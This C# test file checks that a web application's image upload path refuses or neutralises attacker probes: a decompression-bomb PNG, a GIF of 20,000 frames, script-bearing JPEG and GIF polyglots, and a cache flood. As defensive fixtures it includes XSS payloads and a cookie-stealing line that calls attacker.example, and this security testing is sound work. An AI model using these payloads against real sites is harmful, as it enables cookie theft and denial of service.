using System.Buffers.Binary;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Embassy.Testing;
using SkiaSharp;

namespace Embassy.Media.Tests;

/// <summary>
/// An attacker's probes of the image path (#31, SECURITY.md rows 6 and 32): a 20000×20000 PNG that is a few hundred
/// bytes, an animation of thousands of frames, polyglots (a JPEG that is also a page, a GIF that is also a script),
/// and a flood of distinct variants against a small cache — each refused or served bounded, nothing kept that should not be.
/// </summary>
public sealed class ImageProbeTests : IAsyncLifetime, IDisposable
{
    private KestrelSite _site = null!;
    private HttpClient _admin = null!;
    private readonly HttpClient _anonymous = new();

    public async Task InitializeAsync()
    {
        _site = KestrelSite.Start(await EmbassyAppFactory.CreateAsync(TestDatabase.Sqlite, new Dictionary<string, string?>
        {
            ["Embassy:Video:FfmpegPath"] = "/nonexistent/ffmpeg",
            ["Embassy:Media:Images:NewDerivativesPerMinute"] = "100000",
            ["Embassy:Media:Images:CacheMegabytes"] = "1",
            ["Embassy:Media:Images:MemoryCacheMegabytes"] = "0",
        }));
        _admin = await _site.SignInAsync();
    }

    public async Task DisposeAsync()
    {
        _admin.Dispose();
        await _site.DisposeAsync();
    }

    public void Dispose() => _anonymous.Dispose();

    private async Task<HttpResponseMessage> UploadAsync(string path, byte[] bytes) =>
        await _admin.PutAsync($"/admin/api/media/{path}", new ByteArrayContent(bytes) { Headers = { ContentType = new MediaTypeHeaderValue("application/octet-stream") } });

    [Fact]
    public async Task APngOf20000By20000Pixels_IsRefusedFromItsHeader_AndNothingIsKept()
    {
        var png = PngClaiming(20000, 20000);
        Assert.True(png.Length < 2000);
        var refused = await UploadAsync("huge.png", png);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, refused.StatusCode);
        Assert.Contains("20000×20000", await refused.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(_site.App.DataDirectory, "media", "huge.png")));
        Assert.Equal(HttpStatusCode.NotFound, (await _anonymous.GetAsync(_site.Url("/media/huge.png?width=240"))).StatusCode);
    }

    [Fact]
    public async Task AnAnimationOfThousandsOfFrames_GivesAStillDerivative_Quickly()
    {
        var gif = AnimatedGif(20_000);
        Assert.Equal(HttpStatusCode.Created, (await UploadAsync("frames.gif", gif)).StatusCode);
        var timer = System.Diagnostics.Stopwatch.StartNew();
        var derivative = await _anonymous.GetAsync(_site.Url("/media/frames.gif?width=100&format=png"));
        timer.Stop();
        Assert.Equal(HttpStatusCode.OK, derivative.StatusCode);
        var bytes = await derivative.Content.ReadAsByteArrayAsync();
        using var codec = SKCodec.Create(new MemoryStream(bytes));
        Assert.Equal(1, Math.Max(1, codec.FrameCount)); // one frame: the first
        Assert.True(timer.Elapsed < TimeSpan.FromSeconds(5), $"{timer.Elapsed}");
    }

    [Fact]
    public async Task Polyglots_AreStoredAsPicturesOnly_OrRefused()
    {
        // A JPEG whose comment is a page with script: the comment is taken out on intake, and what is served is a picture.
        var page = "<html><body><script>alert(document.domain)</script></body></html>"u8.ToArray();
        var jpeg = TestImages.Jpeg(64, 64);
        byte[] polyglot = [0xFF, 0xD8, 0xFF, 0xFE, (byte)((page.Length + 2) >> 8), (byte)(page.Length + 2), .. page, .. jpeg.AsSpan(2)];
        Assert.Equal(HttpStatusCode.Created, (await UploadAsync("page.jpg", polyglot)).StatusCode);
        var served = await _anonymous.GetAsync(_site.Url("/media/page.jpg"));
        Assert.Equal("image/jpeg", served.Content.Headers.ContentType?.MediaType);
        Assert.DoesNotContain("<script", Encoding.Latin1.GetString(await served.Content.ReadAsByteArrayAsync()), StringComparison.Ordinal);
        Assert.Contains("nosniff", served.Headers.GetValues("X-Content-Type-Options"));
        Assert.Contains("sandbox", string.Join(' ', served.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);

        // "GIF89a" followed by a script is not a picture: refused (its "screen size" is what the script's characters
        // make of it, 413, or it is not a picture, 422), nothing kept.
        var script = "GIF89a=1;fetch('//attacker.example/'+document.cookie)//"u8.ToArray();
        var refused = await UploadAsync("script.gif", script);
        Assert.True(refused.StatusCode is HttpStatusCode.RequestEntityTooLarge or HttpStatusCode.UnprocessableEntity, $"{refused.StatusCode}");
        Assert.False(File.Exists(Path.Combine(_site.App.DataDirectory, "media", "script.gif")));
        // A picture with a script after its end (a valid GIF, then a page) is served as a picture with nosniff, so no
        // browser runs it as a script or renders it as a page.
        byte[] trailing = [.. TestImages.Gif(), .. "<script>alert(1)</script>"u8];
        if ((await UploadAsync("trailing.gif", trailing)).StatusCode == HttpStatusCode.Created)
        {
            var gif = await _anonymous.GetAsync(_site.Url("/media/trailing.gif"));
            Assert.Equal("image/gif", gif.Content.Headers.ContentType?.MediaType);
            Assert.Contains("nosniff", gif.Headers.GetValues("X-Content-Type-Options"));
            Assert.Contains("sandbox", string.Join(' ', gif.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task AFloodOfDistinctVariants_StaysWithinTheCachesSizeOnDisk()
    {
        Assert.Equal(HttpStatusCode.Created, (await UploadAsync("photo.jpg", TestImages.Jpeg(1600, 1200))).StatusCode);
        var made = 0;
        foreach (var width in new[] { 16, 32, 50, 100, 160, 240, 480, 600, 1024 })
        {
            foreach (var quality in new[] { 50, 60, 70, 75, 80, 85, 90, 95, 100 })
            {
                foreach (var format in new[] { "jpg", "png", "webp" })
                {
                    var response = await _anonymous.GetAsync(_site.Url($"/media/photo.jpg?width={width}&quality={quality}&format={format}"));
                    Assert.Equal(HttpStatusCode.OK, response.StatusCode);
                    made++;
                }
            }
        }
        var cache = Path.Combine(_site.App.DataDirectory, "image-cache");
        var onDisk = Directory.EnumerateFiles(cache, "*", SearchOption.AllDirectories).Sum(f => new FileInfo(f).Length);
        Assert.True(made == 243 && onDisk <= 1024 * 1024, $"{made} variants made, {onDisk} bytes on disk (the cache holds 1 MB)");
    }

    /// <summary>A valid PNG header claiming <paramref name="width"/>×<paramref name="height"/> pixels, with one row of data.</summary>
    private static byte[] PngClaiming(int width, int height)
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        header[8] = 8; // bit depth
        header[9] = 2; // RGB
        using var deflated = new MemoryStream();
        using (var z = new ZLibStream(deflated, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            z.Write(new byte[1 + (3 * width)]); // one row of black: the rest is missing
        }
        return [0x89, .. "PNG\r\n\u001a\n"u8, .. Chunk("IHDR", header), .. Chunk("IDAT", deflated.ToArray()), .. Chunk("IEND", [])];
    }

    private static byte[] Chunk(string type, byte[] data)
    {
        var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        var chunk = new byte[8 + data.Length + 4];
        BinaryPrimitives.WriteInt32BigEndian(chunk, data.Length);
        typed.CopyTo(chunk, 4);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), TestImages.Crc32(typed));
        return chunk;
    }

    /// <summary>A 2×2 GIF of <paramref name="frames"/> frames, looping (the NETSCAPE2.0 extension).</summary>
    private static byte[] AnimatedGif(int frames)
    {
        var still = TestImages.Gif();
        var head = still[..19]; // header, screen descriptor, colour table
        var frame = still[19..43]; // graphic control, image descriptor, image data
        frame[4] = 10; // 0.1 s a frame
        byte[] loop = [0x21, 0xFF, 0x0B, .. "NETSCAPE2.0"u8, 0x03, 0x01, 0x00, 0x00, 0x00];
        var gif = new MemoryStream();
        gif.Write(head);
        gif.Write(loop);
        for (var i = 0; i < frames; i++)
        {
            gif.Write(frame);
        }
        gif.WriteByte(0x3B);
        return gif.ToArray();
    }
}
